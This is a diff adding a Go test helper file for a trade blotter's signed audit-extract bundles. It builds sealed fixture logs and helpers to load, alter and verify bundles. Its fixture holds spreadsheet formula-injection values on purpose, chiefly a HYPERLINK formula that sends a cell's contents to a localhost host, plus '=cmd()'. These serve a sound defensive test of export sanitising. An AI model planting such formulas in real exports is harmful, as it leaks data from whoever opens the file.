@@ -1,0 +1,166 @@
+package extract_test
+
+import (
+	"bytes"
+	"context"
+	"crypto/sha256"
+	"io/fs"
+	"os"
+	"path/filepath"
+	"testing"
+	"testing/fstest"
+	"time"
+
+	"github.com/google/uuid"
+	"github.com/stretchr/testify/require"
+	"golang.org/x/mod/sumdb/note"
+
+	"example.com/blotter/capstone/extract"
+	"example.com/blotter/labs/kit/contract"
+	"example.com/blotter/labs/kit/trade"
+	codec "example.com/blotter/solutions/1-schemas"
+	"example.com/blotter/solutions/2-store/memory"
+	audit "example.com/blotter/solutions/5-audit"
+)
+
+const origin = "example.com/blotter/test"
+
+// keys are the same in every run, so that what is signed can be compared with golden files.
+func keys(t *testing.T, of string) (note.Signer, note.Verifier) {
+	seed := sha256.Sum256([]byte(of))
+	secret, public, err := audit.GenerateKey(bytes.NewReader(seed[:]), of)
+	require.NoError(t, err)
+	signer, err := note.NewSigner(secret)
+	require.NoError(t, err)
+	verifier, err := note.NewVerifier(public)
+	require.NoError(t, err)
+	return signer, verifier
+}
+
+// A desk is a log with its seal.
+type desk struct {
+	*testing.T
+	store   *memory.Store
+	auditor *audit.Auditor
+	options extract.Options
+	n       int // events so far
+}
+
+var noon = time.Date(2025, 1, 16, 12, 0, 0, 0, time.UTC)
+
+func newDesk(t *testing.T) *desk {
+	d := &desk{T: t}
+	d.store = memory.New(func(context.Context) time.Time { return noon.Add(time.Duration(d.n) * time.Hour) })
+	signer, verifier := keys(t, origin)
+	var err error
+	d.auditor, err = audit.Open(audit.Options{Log: d.store, Archive: new(audit.Memory), Origin: origin, Signer: signer, Verifier: verifier, Batch: 3})
+	require.NoError(t, err)
+	d.options = extract.Options{Log: d.store, Sealed: d.auditor, Signer: signer, Verifier: verifier}
+	return d
+}
+
+// record puts an event on record, an hour after the last; change may change it before.
+func (d *desk) record(stream string, body trade.Body, change ...func(*contract.Event)) contract.Event {
+	d.n++
+	p, err := codec.Offline().Encode(d.Context(), body)
+	require.NoError(d, err)
+	e := contract.Event{
+		ID: trade.EventID(stream, uint32(d.n)), Stream: stream, Type: p.Type, Schema: p.Schema, Fingerprint: p.Fingerprint, Data: p.Data,
+		EffectiveAt: noon, Actor: "trader/1", Reason: "client order", Source: "test",
+		Correlation: uuid.NewSHA1(uuid.Nil, []byte(stream)), Causation: uuid.NewSHA1(uuid.Nil, p.Data),
+	}
+	for _, f := range change {
+		f(&e)
+	}
+	_, err = d.store.Append(d.Context(), stream, contract.Any, e)
+	require.NoError(d, err)
+	return e
+}
+
+func (d *desk) seal() contract.Checkpoint {
+	c, err := d.auditor.Seal(d.Context())
+	require.NoError(d, err)
+	return c
+}
+
+// story is three trades in two books, a refusal, a curve below zero, and words that a spreadsheet must not run. It is sealed twice, at
+// 6 and at 13 leaves.
+func story(t *testing.T) *desk {
+	d := newDesk(t)
+	d.record("trade/T-1", oil("CRUDE", "70"))
+	d.record("trade/T-2", oil("OTHER", "10"), func(e *contract.Event) { e.Reason = `=HYPERLINK("http://127.0.0.1/?"&A1;"x")` })
+	d.record("trade/T-1", trade.Settle{Quantity: barrels("30"), Price: trade.Dec("-37.63")})
+	d.record("refused/T-1", trade.CommandRefused{CommandID: "=cmd()", Rule: "over-settled", Detail: "of 40; +1 more"})
+	require.EqualValues(t, 6, d.seal().Size)
+	d.record("curve/power/CET/base", trade.PriceMarked{Curve: "power/CET/base", Currency: "EUR", Points: []trade.Point{
+		{Delivery: month("2025-03"), Price: trade.Dec("-4.25")}, {Delivery: month("2025-04"), Price: trade.Dec("81")},
+	}})
+	begun := d.record("trade/T-3", oil("CRUDE", "5"))
+	d.record("trade/T-3", oil("OTHER", "5"), func(e *contract.Event) { e.Corrects, e.Approver, e.Actor = begun.ID, "head/1", "-2+3" })
+	d.record("trade/T-1", trade.Cancel{Kind: trade.Terminate, Quantity: barrels("40"), Fee: trade.Dec("-12.5")})
+	d.record("trade/T-2", trade.Settle{Quantity: barrels("10"), Price: trade.Dec("71")})
+	require.EqualValues(t, 13, d.seal().Size)
+	return d
+}
+
+func barrels(n string) trade.Quantity { return trade.Quantity{Value: trade.Dec(n), Unit: trade.BBL} }
+
+func month(m string) trade.Period {
+	start, err := time.Parse("2006-01", m)
+	if err != nil {
+		panic(err)
+	}
+	day := func(t time.Time) trade.Day { return trade.Day(t.Unix() / 86400) }
+	return trade.Period{Start: day(start), End: day(start.AddDate(0, 1, 0))}
+}
+
+func oil(book, quantity string) trade.New {
+	return trade.New{
+		Book: book, Counterparty: "ACME", Trader: "trader/1", Side: trade.Buy,
+		Instrument: trade.Instrument{Commodity: trade.Oil, Zone: "BRENT", Delivery: month("2025-06")},
+		Quantity:   barrels(quantity), Price: trade.Dec("70"), Currency: "USD",
+	}
+}
+
+// make is the bundle that a query gives, in memory.
+func (d *desk) make(q extract.Query, size int64) fstest.MapFS {
+	dir := filepath.Join(d.TempDir(), "out")
+	_, err := extract.Make(d.Context(), dir, extract.Ask{Query: q, Checkpoint: size, Actor: "auditor/1", Reason: "year end", At: noon}, d.options)
+	require.NoError(d, err)
+	return load(d.T, dir)
+}
+
+func load(t *testing.T, dir string) fstest.MapFS {
+	files := fstest.MapFS{}
+	bundle := os.DirFS(dir)
+	require.NoError(t, fs.WalkDir(bundle, ".", func(path string, d fs.DirEntry, err error) error {
+		if err != nil || d.IsDir() {
+			return err
+		}
+		data, err := fs.ReadFile(bundle, path)
+		files[path] = &fstest.MapFile{Data: data, Mode: 0o644}
+		return err
+	}))
+	return files
+}
+
+// changed is bundle with one file replaced; nil removes it.
+func changed(bundle fstest.MapFS, path string, data []byte) fstest.MapFS {
+	out := fstest.MapFS{}
+	for p, f := range bundle {
+		out[p] = f
+	}
+	delete(out, path)
+	if data != nil {
+		out[path] = &fstest.MapFile{Data: data, Mode: 0o644}
+	}
+	return out
+}
+
+// faultOf is what Verify finds wrong.
+func faultOf(t require.TestingT, bundle fs.FS, key note.Verifier) *extract.Fault {
+	_, err := extract.Verify(bundle, key)
+	var f *extract.Fault
+	require.ErrorAs(t, err, &f)
+	return f
+}
